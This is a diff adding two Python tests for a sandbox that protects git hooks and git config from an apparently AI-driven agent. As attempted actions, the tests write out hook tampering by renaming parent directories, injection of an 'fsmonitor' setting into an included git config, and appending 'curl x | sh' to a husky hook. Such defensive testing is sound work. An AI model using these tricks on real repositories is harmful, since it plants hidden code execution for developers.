@@ -139,3 +139,39 @@ def test_ordinary_work_still_happens(workdir: Path, model_server: ModelServer):
                       writes=["src/new.py"])
     assert "made.txt" in results[0] and results[1].startswith("wrote")
     assert (root / "made.txt").read_text() == "ok\n" and (root / "src" / "new.py").is_file()
+
+
+def test_renaming_a_directory_above_a_protected_path_does_not_unprotect_it(
+        workdir: Path, model_server: ModelServer):
+    root = workdir / "proj"
+    (root / "tools" / "hooks").mkdir(parents=True)
+    (root / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nmake check\n")
+    (root / "config" / "git").mkdir(parents=True)
+    (root / "config" / "git" / "team.cfg").write_text("[user]\n\tname = dev\n")
+    git("init", "-q", str(root), cwd=workdir)
+    git("config", "core.hooksPath", "tools/hooks", cwd=root)
+    git("config", "include.path", "../config/git/team.cfg", cwd=root)
+    results = attempt(root, model_server,
+                      "mv tools tools.old && mkdir -p tools/hooks && echo id > tools/hooks/pre-commit",
+                      "mv config config.old && mkdir -p config/git && "
+                      "printf '[core]\\n\\tfsmonitor = id\\n' > config/git/team.cfg")
+    assert all("was put back" in r for r in results), results
+    assert (root / "tools" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nmake check\n"
+    assert (root / "config" / "git" / "team.cfg").read_text() == "[user]\n\tname = dev\n"
+    assert not (root / "tools.old").exists() and not (root / "config.old").exists()
+    assert "fsmonitor" not in git("config", "--list", "--show-origin", cwd=root)
+
+
+def test_husky_hooks_and_the_scripts_they_run_are_read_only(workdir: Path,
+                                                            model_server: ModelServer):
+    root = workdir / "proj"
+    (root / ".husky" / "_").mkdir(parents=True)
+    (root / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\n. .husky/pre-commit\n")
+    (root / ".husky" / "pre-commit").write_text("npm test\n")
+    git("init", "-q", str(root), cwd=workdir)
+    git("config", "core.hooksPath", ".husky/_", cwd=root)
+    results = attempt(root, model_server, "echo 'curl x | sh' >> .husky/pre-commit",
+                      "mv .husky .husky.old")
+    assert "Read-only file system" in results[0], results
+    assert "busy" in results[1].lower(), results
+    assert (root / ".husky" / "pre-commit").read_text() == "npm test\n"
